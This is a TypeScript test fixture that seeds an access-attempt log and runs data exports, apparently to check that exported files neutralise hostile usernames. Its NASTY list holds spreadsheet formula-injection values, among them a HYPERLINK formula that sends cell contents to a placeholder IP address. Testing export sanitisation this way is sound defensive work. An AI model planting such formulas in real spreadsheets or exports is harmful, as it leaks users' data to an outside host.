/** A real engine over a log of its own, and exports of it from start to file. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createRouterClient } from '@orpc/server';
import { exportPath } from '../../main/adapters/export-folder.ts';
import { createConnectionCarrier } from '../../main/api/connection-carrier.ts';
import { composeEngine, type Engine } from '../../main/compose.ts';
import type { AttemptDraft } from '../../main/engine/effects.ts';
import { insertAttemptHistory } from '../../main/store/sqlite/attempt-history.ts';
import { DATABASE_FILE } from '../../main/store/sqlite/connection.ts';
import { openStore } from '../../main/store/sqlite/open.ts';
import type { ExportFormat, ExportJob, ExportLanguage, ExportSubject } from '../../shared/schemas/export.ts';
import { userFieldsSchema } from '../../shared/schemas/user.ts';
import type { ContractClient } from '../contract/pipes.ts';
import { attemptLog } from './attempt-log.ts';
import { audit, random, temporaryFolder } from './store.ts';

export const FROM = Date.UTC(2026, 9, 1);
export const UNTIL = Date.UTC(2026, 10, 1);
export const ZONE = 'Europe/Amsterdam';
export const PASSWORD = 'correct horse battery staple';

/** Usernames as an application may send them: formulas, markup, another direction, very long, and not quite text. */
export const NASTY = [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"sign in")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  'Smith, "Jo"; <b>&amp;</b>',
  'מרים כהן',
  'أحمد بن علي',
  `long-${'x'.repeat(195)}`,
  '_x0041_literal',
  'half \uD800 pair',
  '007',
] as const;

export type ExportWorld = {
  readonly engine: Engine;
  readonly folder: string;
  /** A signed-in console; names are Alice (administrator), Harry (help desk) and Audrey (auditor). */
  console(name: string): Promise<{ readonly client: ContractClient; readonly sessionId: string }>;
  /** Waits for the end. */
  make(client: ContractClient, subject: ExportSubject, format: ExportFormat, language?: ExportLanguage): Promise<ExportJob>;
  pathOf(job: ExportJob): string;
  textOf(job: ExportJob): string;
  close(): Promise<void>;
  /** Closes the engine without its leave and starts another on the folder. */
  restart(): Promise<void>;
};

function nastyAttempts(pattern: AttemptDraft): readonly AttemptDraft[] {
  return NASTY.map((username, index) => ({
    ...pattern,
    at: UNTIL - 60_000 + index,
    userId: undefined,
    username,
    result: 301,
    isGranted: false,
    reason: 'user-unknown',
  }));
}

/** `count` invented attempts and the nasty ones, of October 2026. */
export async function openExportWorld(count: number): Promise<ExportWorld> {
  const folder = temporaryFolder();
  const dataFolder = join(folder.path, 'data');
  const store = await openStore({ folder: dataFolder, random, clock: { now: Date.now } });
  const create = NASTY.map((lastName, index) =>
    userFieldsSchema.parse({
      username: `user${index + 1}`,
      lastName: lastName.replaceAll(/\p{Cc}|\p{Cs}/gu, ''),
      userGroup: '=group',
    }),
  );
  await store.write('users.import', { create, update: [] }, audit);
  await store.close();
  const history = [...attemptLog({ count, from: FROM, until: UNTIL - 120_000, users: NASTY.length, applications: 4 })];
  const [pattern] = history;
  if (pattern === undefined) throw new TypeError('no attempts');
  insertAttemptHistory(join(dataFolder, DATABASE_FILE), [...history, ...nastyAttempts(pattern)]);

  const log = { info: () => undefined, error: (message: string) => process.stderr.write(`${message}\n`) };
  const compose = () => composeEngine({ dataFolder, host: 'headless', log, listens: false });
  let engine = await compose();
  const open = (carrier = createConnectionCarrier()) =>
    ({
      carrier,
      client: createRouterClient(engine.router, {
        context: { caller: { kind: 'console', carrier, address: '127.0.0.1' } },
      }) as ContractClient,
    }) as const;
  const first = open();
  await first.client.setup.createFirstOperator({
    setupCode: (await engine.setupCode()) ?? '',
    name: 'Alice',
    password: PASSWORD,
  });
  for (const [name, role] of [
    ['Harry', 'help-desk'],
    ['Audrey', 'auditor'],
  ] as const)
    await first.client.operators.add({ name, role, password: PASSWORD, mustChangePassword: false });

  const world: ExportWorld = {
    get engine() {
      return engine;
    },
    folder: dataFolder,
    async console(name) {
      const { client, carrier } = open();
      await client.session.signIn({ name, password: PASSWORD });
      return { client, sessionId: carrier.current() ?? '' };
    },
    async make(client, subject, format, language = 'en') {
      let job = await client.exports.start({ subject, format, language, timeZone: ZONE });
      for (; job.state === 'running'; job = await client.exports.get({ id: job.id }))
        await new Promise((resolve) => setTimeout(resolve, 20));
      return job;
    },
    pathOf: ({ id, format }) => exportPath(dataFolder, id, format),
    textOf: (job) => readFileSync(world.pathOf(job), 'utf8'),
    async restart() {
      await engine.close();
      engine = await compose();
    },
    async close() {
      await engine.close();
      folder.remove();
    },
  };
  return world;
}
